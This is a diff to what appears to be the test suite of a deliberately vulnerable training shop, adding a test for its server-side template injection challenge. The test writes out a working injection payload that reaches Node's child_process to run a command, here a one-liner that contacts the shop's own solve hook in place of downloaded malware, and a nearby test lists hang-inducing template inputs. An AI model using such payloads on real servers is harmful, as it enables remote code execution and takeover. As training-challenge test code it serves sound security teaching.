@@ -67,6 +67,15 @@ describe('sstiChallenge (SSTi)', () => {
     expect(solved('ssrfChallenge')).toBe(false);
   });
 
+  test("the payload players know, global.process.mainModule.require('child_process'), runs the \"malware\" that calls home", async () => {
+    const admin = await shopWithAdmin();
+    // the known attack downloads and runs a binary that calls the hook; here a node one-liner plays it
+    const malware = `${JSON.stringify(process.execPath)} -e "fetch('${s.url}/solve/challenges/server-side?key=${SSKEY}')"`;
+    await setUsername(admin, `#{global.process.mainModule.require('child_process').exec(${JSON.stringify(malware)})}`);
+    await profileHtml(s, admin);
+    await eventually(() => solved('sstiChallenge'), 10000);
+  });
+
   test('expressions that fail or never end show the name as written and the shop carries on', async () => {
     const admin = await shopWithAdmin();
     for (const username of ['#{while(true){}}', '#{null.x}', '#{({toString(){for(;;);}})}', '#{Promise.resolve().then(()=>{for(;;);})}', '#{']) {
